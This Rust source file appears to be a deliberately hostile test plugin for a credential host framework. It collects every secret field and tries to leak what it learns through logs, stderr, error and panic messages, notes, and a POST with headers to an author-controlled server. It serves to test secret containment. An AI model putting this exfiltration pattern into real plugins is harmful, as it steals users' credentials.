//! A hostile flavor for tests: it uses every secret in every way that the contract has, keeps the results, and tells
//! them wherever it can: to the log, in notes, failures and its panic message, and to a server of its own.
#![forbid(unsafe_code)]

mod attempts;

use crhost_flavor::http::{Method, Request};
use crhost_flavor::{
    AcceptedUri, AuthMethod, Connector, Credential, Description, Failure, Field, FieldValue, Flavor, Image, Operation,
    OptionSpec, Password, Prepared, Purpose, Registry, UploadProfile, log,
};

struct Leaker;

/// Notes that the host takes.
const NOTES: usize = 64;

/// Headers of the request that tells all; each holds a piece.
const PIECES: usize = 20;

impl Flavor for Leaker {
    fn describe() -> Description {
        Description::new("leaker", env!("CARGO_PKG_VERSION"), "Tells what it learns")
            .uri_examples(["localhost:5000/acme"])
            .option(OptionSpec::url("service", "A server that may have the secrets, and repeats what it is sent"))
            .option(OptionSpec::url("own", "A server of the flavor's author"))
            .option(OptionSpec::text("ending", "How it ends: well, with `refuse` or with `panic`"))
            .auth_method(
                AuthMethod::new("leaker", "all", "Something of everything")
                    .field(Field::text("username", "The username"))
                    .field(Field::secret("password", "The password"))
                    .field(Field::secret("pem", "The pem"))
                    .field(Field::secret_json("key", "The key").public(["client_email"]))
                    .operations(attempts::operations(&["password", "pem", "key"]))
                    .registry_password("password"),
            )
            .auth_method(
                AuthMethod::new("leaker", "token", "For another host")
                    .field(Field::secret("token", "The token"))
                    .operation(
                        Operation::new("other", "Asks another host")
                            .get()
                            .host("https://other.example")
                            .path("/other")
                            .bearer("token"),
                    ),
            )
            .operation(
                Operation::new("ask", "Asks without a secret")
                    .get()
                    .host("https://service.example")
                    .endpoint("service")
                    .path("/*"),
            )
    }

    fn validate_uri(uri: String) -> Result<AcceptedUri, Failure> {
        Ok(AcceptedUri::new(uri))
    }

    fn prepare_image_push(registry: Registry, connector: Option<Connector>, _: Image) -> Result<Prepared, Failure> {
        let connector = connector.ok_or_else(|| Failure::unauthenticated("no connector"))?;
        let mut learnt = Vec::new();
        for (name, value) in &connector.fields {
            if let FieldValue::Secret(secret) = value {
                learnt.push(format!("field {name}"));
                attempts::use_up(secret, &registry, &mut learnt);
            }
        }
        learnt.truncate(NOTES);
        let told = learnt.join(" | ");
        // Each way out is also tried with what came of the one before it.
        if let Some(own) = registry.option("own") {
            let request = Request::new(Method::Post, format!("{own}/learnt")).body(told.as_str());
            let pieces = learnt.iter().rev().take(PIECES);
            let request = pieces.fold(request, |request, piece| request.header("x-learnt", printable(piece)));
            attempts::keep_answer(request.send(), &mut Vec::new());
        }
        for piece in &learnt {
            log::debug(piece);
            log::info(piece);
            log::warn(piece);
            eprintln!("{piece}");
        }
        match registry.option("ending") {
            Some("refuse") => Err(Failure::denied(told.clone()).hint(told)),
            Some("panic") => panic!("{told}"),
            _ => Ok(learnt.into_iter().fold(Prepared::new(UploadProfile::standard()), Prepared::note)),
        }
    }

    fn credentials(
        _: Registry,
        connector: Option<Connector>,
        _: Purpose,
        _: Option<Image>,
    ) -> Result<Credential, Failure> {
        let connector = connector.ok_or_else(|| Failure::unauthenticated("no connector"))?;
        let username = connector.text("username").unwrap_or("nobody").to_owned();
        let is_password = |name: &str| name == "password" || name == "token";
        let password = connector.fields.into_iter().find_map(|(name, value)| match value {
            FieldValue::Secret(secret) if is_password(&name) => Some(secret),
            _ => None,
        });
        let password = password.ok_or_else(|| Failure::unauthenticated("no password"))?;
        Ok(Credential::basic(username, Password::Secret(password)).into())
    }
}

fn printable(text: &str) -> String {
    text.chars().filter(|c| c.is_ascii_graphic()).take(1_000).collect()
}

crhost_flavor::export!(Leaker);
